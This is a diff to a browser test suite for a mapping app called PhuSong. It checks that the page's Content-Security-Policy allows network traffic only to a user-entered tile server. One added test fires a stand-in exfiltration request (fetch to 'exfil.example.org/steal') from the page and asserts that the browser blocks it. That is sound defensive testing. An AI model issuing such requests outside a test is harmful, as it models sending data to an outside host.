@@ -275,18 +275,39 @@ describe('PhuSong in Chromium', () => {
     assert.deepEqual(sent(), [], 'print to PDF');
     assert.deepEqual(await violations(), [], 'nothing the app does itself is blocked by its CSP');
 
-    // The user types an online tile server and turns the basemap on: now, and only now, requests leave.
+    // The user types an online tile server and turns the basemap on: now, and only now, requests leave, and only to it.
     const settings = fresh.locator('section', { has: fresh.locator('input[type="url"]') });
+    const runtimePolicy = () => fresh.locator('meta[http-equiv="Content-Security-Policy"][data-basemap-origin]').getAttribute('content');
+    assert.equal(await runtimePolicy(), "connect-src 'self' data: blob:", 'before any basemap is entered the page may reach no other host');
     await settings.locator('input[type="url"]').fill('https://tiles.example.invalid/{z}/{x}/{y}.png');
+    await settings.locator('input[type="checkbox"]').check();
     await waitForMapIdle(fresh);
-    assert.deepEqual(sent(), [], 'typing the URL alone sends nothing');
+    assert.deepEqual(sent(), [], 'a host the page policy does not allow yet gets no request');
+    assert.match(await fresh.getByTestId('basemap-hint').innerText(), /https:\/\/tiles\.example\.invalid/);
+    await fresh.waitForSelector('[data-testid="saved-state"][data-state="saved"]', { timeout: 30_000 });
+    await fresh.getByTestId('basemap-reload').click();
+    await fresh.waitForSelector('[data-testid="status"][data-state="ready"]', { timeout: 90_000 });
+    assert.equal(await runtimePolicy(), "connect-src 'self' data: blob: https://tiles.example.invalid", 'after the reload the policy names that one host');
     const tile = fresh.waitForEvent('request', { predicate: (r) => r.url().startsWith('https://tiles.example.invalid/'), timeout: 30_000 });
     await settings.locator('input[type="checkbox"]').check();
     await tile;
     assert.ok(sent().length > 0 && sent().every((u) => u.startsWith('https://tiles.example.invalid/')), sent().slice(0, 3).join(' '));
-    assert.deepEqual(await violations(), [], 'the CSP lets the basemap tiles through (connect-src https:)');
+    assert.deepEqual(await violations(), [], 'the CSP lets the basemap tiles through');
 
-    const csp = await fresh.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    // Page script asking any other https host is refused by the browser, not by our code.
+    const other = await fresh.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          setTimeout(() => {
+            fetch('https://exfil.example.org/steal?x=1').then(() => resolve('sent'), () => resolve('refused'));
+          }, 0);
+        }),
+    );
+    assert.equal(other, 'refused');
+    assert.ok((await violations()).some((v) => v.startsWith('connect-src https://exfil.example.org')), (await violations()).join(' | '));
+    assert.ok(!sent().some((u) => u.includes('exfil.example.org')), 'the refused request never reached the network');
+
+    const csp = await fresh.locator('meta[http-equiv="Content-Security-Policy"]').first().getAttribute('content');
     assert.match(csp ?? '', /default-src 'self'/);
     assert.doesNotMatch(csp ?? '', /unsafe-eval/);
     await fresh.screenshot({ path: `${OUT}/network-basemap-on.png` });
